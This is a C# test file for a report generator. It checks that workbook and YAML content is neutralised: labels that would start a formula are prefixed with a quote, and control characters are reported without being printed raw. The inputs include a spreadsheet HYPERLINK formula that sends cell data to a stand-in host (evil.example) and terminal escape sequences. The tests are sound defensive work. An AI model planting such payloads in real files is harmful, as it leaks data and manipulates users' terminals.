using ClosedXML.Excel;
using ReportGen.Cli;
using ReportGen.Tests.TestSupport;

namespace ReportGen.Tests.Publishing;

/// <summary>
/// Text from workbooks and content that would act on the program showing it: a label that a spreadsheet would run as
/// a formula, and a control character that would drive the terminal printing a diagnostic.
/// </summary>
public sealed class InjectionTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";

    [Fact]
    public async Task A_label_that_would_start_a_formula_reads_as_text_in_the_csv_and_the_workbook()
    {
        using var data = new DataEdition("""
            sources:
              - id: staff
                file: data/staff.xlsx
                sheet: Staff
                fields: { team: Team }
            """, "tables:\n  - { id: teams, title: Staff by team, source: staff, rows: team }\n");
        string[] teams = [Hyperlink, "+1 Squad", "-Response", "@Command", "Neighbourhood"];
        data.Workbook("staff.xlsx", "Staff", [["Team"], .. teams.SelectMany(t => Enumerable.Repeat(new object?[] { t }, 10))]);

        await using var builder = new ReportBuilder(new BuildOptions(Path.Combine(data.Root, "out"), OutputFormats.Html, RepoPaths.Templates));
        var result = await builder.BuildAsync(data.Folder);
        Assert.True(result.Succeeded, string.Join("\n", result.Diagnostics));

        var csv = PublishedTable.FromCsv("teams", File.ReadAllText(Path.Combine(result.OutputFolder!, "data", "teams.csv")));
        Assert.Contains(csv.Rows, r => r.Label == "'" + Hyperlink);
        Assert.Contains(csv.Rows, r => r.Label == "'+1 Squad");
        Assert.Contains(csv.Rows, r => r.Label == "'-Response");
        Assert.Contains(csv.Rows, r => r.Label == "'@Command");
        Assert.Contains(csv.Rows, r => r.Label == "Neighbourhood");
        Assert.DoesNotContain(csv.Rows, r => r.Label.Length > 0 && "=+-@".Contains(r.Label[0], StringComparison.Ordinal));
        Assert.Equal("10", csv.Rows.Single(r => r.Label == "'-Response").Cells[0]);

        using var workbook = new XLWorkbook(Path.Combine(result.OutputFolder!, "data", "all-tables.xlsx"));
        var cells = workbook.Worksheets.SelectMany(w => w.CellsUsed()).ToList();
        Assert.DoesNotContain(cells, c => c.HasFormula);
        Assert.Contains(cells, c => c.GetString() == Hyperlink && c.DataType == XLDataType.Text);
    }

    [Fact]
    public async Task A_control_character_in_a_yaml_key_or_text_is_an_error_at_its_place_never_printed_raw()
    {
        using var edition = new TempEdition("organisation:\n  name: A\nedition:\n  title: T\n  \"ti\u001B[2Jtle\": x\n", SampleEditions.ObjectivesYaml);
        var stdout = new StringWriter();
        var stderr = new StringWriter();

        var exit = await CommandLine.RunAsync(["check", edition.Folder], stdout, stderr);

        Assert.Equal(ExitCodes.ContentErrors, exit);
        var printed = stdout.ToString() + stderr.ToString();
        Assert.Contains("edition.yaml(5,6): error RG0102: the file holds the control character U+001B here, which cannot be printed", printed);
        Assert.DoesNotContain('\u001B', printed);
    }

    [Theory]
    [InlineData("\"An \\e escape\"", "U+001B")]
    [InlineData("\"A bell \\a\"", "U+0007")]
    [InlineData("\"A NUL \\0\"", "U+0000")]
    [InlineData("\"DEL \\x7F\"", "U+007F")]
    [InlineData("\"A C1 control \\x9B\"", "U+009B")]
    public async Task A_control_character_written_as_a_yaml_escape_is_refused(string title, string character)
    {
        using var edition = new TempEdition($"organisation:\n  name: A\nedition:\n  title: {title}\n", SampleEditions.ObjectivesYaml);
        var stdout = new StringWriter();
        var stderr = new StringWriter();

        var exit = await CommandLine.RunAsync(["check", edition.Folder], stdout, stderr);

        Assert.Equal(ExitCodes.ContentErrors, exit);
        Assert.Contains($"edition.yaml(4,10): error RG0102: this text holds the control character {character}", stdout.ToString() + stderr.ToString());
    }

    [Fact]
    public async Task A_control_character_in_a_workbook_cell_is_an_error_at_its_cell_and_a_header_is_printed_escaped()
    {
        using var data = new DataEdition("""
            sources:
              - id: staff
                file: data/staff.xlsx
                sheet: Staff
                fields: { team: Team, role: Role }
            """, "tables:\n  - { id: teams, title: Staff by team, source: staff, rows: team }\n");
        // ClosedXML writes U+001B as _x001B_ in the file, as Excel does, and reads it back as the character.
        data.Workbook("staff.xlsx", "Staff", [["Team", "Ro\u001B[2Jle"], ["Response\u001B]0;owned\u0007", "Officer"]]);
        var stdout = new StringWriter();
        var stderr = new StringWriter();

        var exit = await CommandLine.RunAsync(["check", data.Folder], stdout, stderr);

        Assert.Equal(ExitCodes.ContentErrors, exit);
        var printed = stdout.ToString() + stderr.ToString();
        Assert.DoesNotContain('\u001B', printed);
        Assert.DoesNotContain('\u0007', printed);
        // The header does not match, and the message lists it, escaped for the terminal.
        Assert.Contains("'Ro\\u001B[2Jle'", printed);

        using var good = new DataEdition("""
            sources:
              - id: staff
                file: data/staff.xlsx
                sheet: Staff
                fields: { team: Team }
            """, "tables:\n  - { id: teams, title: Staff by team, source: staff, rows: team }\n");
        good.Workbook("staff.xlsx", "Staff", [["Team"], ["Response\u001B]0;owned\u0007"]]);
        var diagnostics = new ReportBuilder(new BuildOptions(Path.Combine(good.Root, "out"), OutputFormats.Html, RepoPaths.Templates)).Check(good.Folder);
        Assert.Contains(diagnostics, d => d.ToString().EndsWith("staff.xlsx(Staff!A2): error RG0213: the cell in column 'Team' holds the control character U+001B, which cannot be printed (in the file it may be written _x001B_, or it was pasted in from another program); remove it", StringComparison.Ordinal));
    }
}
